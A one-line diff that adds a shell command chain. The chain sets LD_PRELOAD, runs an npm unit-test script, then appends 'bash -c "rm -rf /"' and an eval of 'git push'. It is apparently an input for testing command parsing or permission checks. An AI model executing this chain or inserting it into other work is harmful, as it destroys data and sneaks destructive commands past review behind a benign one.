@@ -1,0 +1,1 @@
+FOO=1 LD_PRELOAD=x npm run test:unit && bash -c "rm -rf /" ; eval "git push"
